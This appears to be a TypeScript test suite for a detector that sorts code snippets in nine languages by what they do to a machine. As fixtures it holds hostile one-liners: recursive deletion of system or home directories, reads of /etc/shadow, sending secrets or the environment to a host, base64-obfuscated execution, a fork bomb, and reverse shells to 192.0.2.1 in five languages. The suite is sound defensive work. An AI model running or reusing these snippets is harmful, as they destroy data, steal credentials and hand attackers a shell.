import fc from 'fast-check';
import type { CodeEffect, Language } from '../../risk/code/effect.ts';
import { readProgram } from '../../risk/code/read-program.ts';

const show = (effect: CodeEffect): string => {
  if (effect.kind === 'said') return `${effect.said.tier} ${effect.said.rule}`;
  return effect.kind === 'argv'
    ? `argv ${effect.words.map(({ text }) => text).join('|')}`
    : `${effect.kind} ${effect.text}`;
};
const effectsOf = (language: Language, text: string): readonly string[] =>
  readProgram(language, text).map(show);
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const DOES: readonly (readonly [Language, string, string])[] = [
  ['python', 'import os; os.system("touch a")', 'shell touch a'],
  ['python', 'from os import system as run\nrun("touch a")', 'shell touch a'],
  ['python', 'import subprocess as sp\nsp.run(["rm", "-r", "a"])', 'argv rm|-r|a'],
  ['python', 'import subprocess\nsubprocess.call("rm " + name, shell=True)', 'shell rm $name'],
  ['python', "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch a')", 'shell touch a'],
  ['python', "import os; os.system(''.join(map(chr, [108, 115])))", 'shell ls'],
  ['python', "import os; where = '/srv'; os.system(f'ls {where}')", 'shell ls /srv'],
  ['python', "import os; os.system('a- sl'[::-1])", 'shell ls -a'],
  ['python', 'import shutil, os; shutil.rmtree(os.path.expanduser("~"))', 'CRITICAL code.deletes-vital'],
  ['python', 'for d in ["a", "/etc"]:\n  shutil.rmtree(d)', 'CRITICAL code.deletes-vital'],
  ['python', 'import shutil; shutil.rmtree("notes")', 'HIGH code.deletes-tree'],
  ['python', 'import shutil; shutil.rmtree("node_modules")', 'MEDIUM code.deletes-build'],
  ['python', 'import os; os.remove("a.txt")', 'LOW code.deletes-file'],
  ['python', 'open("/dev/sda", "wb").write(b"")', 'CRITICAL code.writes-device'],
  ['python', 'print(open("/etc/shadow").read())', 'HIGH code.reads-secret'],
  [
    'python',
    'requests.post("https://example.com", data=open("/etc/shadow").read())',
    'HIGH code.sends-private',
  ],
  ['python', 'requests.post("https://example.com", json=dict(os.environ))', 'HIGH code.sends-private'],
  ['python', `exec(__import__("base64").b64decode("${base64('import os; os.system("ls")')}"))`, 'shell ls'],
  ['python', 'exec(urllib.request.urlopen(url).read())', 'HIGH code.evaluates-remote'],
  ['python', 'cursor.execute("DELETE FROM users")', 'sql DELETE FROM users'],
  ['python', 'import os\nwhile True: os.fork()', 'CRITICAL code.fork-bomb'],
  ['node', "require('child_process').execSync('ls')", 'shell ls'],
  ['node', "import { spawn as run } from 'node:child_process'; run('rm', ['-r', 'a'])", 'argv rm|-r|a'],
  ['node', "const { exec } = require('child_process'); exec(`ls ${dir}`)", 'shell ls $dir'],
  ['node', "require('fs')['rm' + 'Sync']('/', { recursive: true })", 'CRITICAL code.deletes-vital'],
  ['node', `eval(atob('${base64('1 + 1')}'))`, 'HIGH code.evaluates-decoded'],
  [
    'node',
    "fetch('https://example.com', { method: 'POST', body: JSON.stringify(process.env) })",
    'HIGH code.sends-private',
  ],
  ['node', "https.get(u, (r) => r.on('end', () => eval(text)))", 'HIGH code.evaluates-remote'],
  ['perl', 'system "rm", "-r", "a"', 'argv rm|-r|a'],
  ['perl', 'my $out = qx{ls -l};', 'shell ls -l'],
  ['perl', 'kill 9, -1', 'CRITICAL code.kills-all'],
  ['ruby', 'puts `ls`', 'shell ls'],
  ['ruby', "Kernel.send(:system, 'ls')", 'shell ls'],
  ['ruby', 'FileUtils.rm_rf Dir.home', 'CRITICAL code.deletes-vital'],
  ['php', "$f = 'sys' . 'tem'; $f('ls');", 'shell ls'],
  ['php', 'eval($_POST["x"]);', 'HIGH code.evaluates-remote'],
  ['lua', 'os.execute "ls"', 'shell ls'],
  ['r', 'unlink("/etc", recursive = TRUE)', 'CRITICAL code.deletes-vital'],
  ['awk', '{ system("rm " $1) }', 'shell rm $value'],
  ['awk', 'BEGIN { "date" | getline now }', 'shell date'],
  ['applescript', 'do shell script "ls" with administrator privileges', 'HIGH code.administrator'],
];

test.each(DOES)('%s: %s', (language, text, effect) => {
  expect(effectsOf(language, text)).toContain(effect);
});

test.each<[Language, string]>([
  ['python', 'print("rm -rf /")'],
  ['python', '# os.system("rm -rf /")\nprint(1)'],
  ['python', 'note = "os.system(\'rm -rf /\')"\nprint(note)'],
  ['python', 'import platform; print(platform.system())'],
  ['python', 'import re; re.compile("a").match("b")'],
  ['python', 'with open("out.txt", "w") as out:\n    out.write("eval(x)")'],
  ['python', 'import os, requests; requests.get(u, headers={"Authorization": os.environ["TOKEN"]})'],
  ['node', 'console.log(`rm -rf ${dir}`)'],
  ['node', '/rm -rf/.exec(line)'],
  ['node', '// require("child_process").execSync("ls")\nprocess.exit(0)'],
  ['perl', 's/system/exec/g; print if /unlink/'],
  ['ruby', 'puts "system(\'ls\')"'],
  ['awk', '/system/ { print $1 }'],
  ['applescript', 'display dialog "do shell script"'],
])('%s does nothing to the machine: %s', (language, text) => {
  expect(effectsOf(language, text)).toEqual([]);
});

const REVERSE: readonly (readonly [Language, string])[] = [
  ['python', 's=socket.socket();s.connect(("192.0.2.1",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'],
  [
    'node',
    "const c=require('net').connect(9,'192.0.2.1');const s=require('child_process').spawn('/bin/sh');c.pipe(s.stdin)",
  ],
  ['perl', 'socket(S,2,1,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'],
  ['php', '$s=fsockopen("192.0.2.1",9);exec("/bin/sh -i <&3 >&3");'],
  ['ruby', 'f=TCPSocket.open("192.0.2.1",9).to_i;exec "sh -i <&3 >&3"'],
];
test.each(REVERSE)('a shell on a socket is a reverse shell in %s', (language, text) => {
  expect(effectsOf(language, text)).toContain('HIGH code.reverse-shell');
});

test('a text of an effect stands where the effect says', () => {
  const text = "import os\nos.system('touch a')";
  const [effect] = readProgram('python', text);
  expect(effect?.kind === 'shell' && text.slice(effect.start, effect.end)).toBe('touch a');
});

const LANGUAGES: readonly Language[] = [
  'python',
  'node',
  'perl',
  'ruby',
  'php',
  'awk',
  'lua',
  'applescript',
  'r',
];
const PARTS = [
  'os.system',
  'eval',
  '(',
  ')',
  '[',
  ']',
  '{',
  '}',
  "'",
  '"',
  '`',
  '${',
  '#{',
  'f"',
  '+',
  '.',
  ',',
  '=',
  ' ',
  '\n',
  'x',
  'qx(',
  '%w[',
  '//',
  '\\',
  'for x in ',
  ':',
  '1',
];

test('no text makes the reader throw, and every effect lies inside its text', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...LANGUAGES),
      fc.array(fc.constantFrom(...PARTS), { maxLength: 60 }),
      (language, parts) => {
        const text = parts.join('');
        for (const effect of readProgram(language, text)) {
          for (const { start, end } of effect.kind === 'argv' ? effect.words : [effect]) {
            expect(start).toBeGreaterThanOrEqual(0);
            expect(end).toBeLessThanOrEqual(text.length);
            expect(start).toBeLessThanOrEqual(end);
          }
        }
      },
    ),
    { numRuns: 2_000 },
  );
});
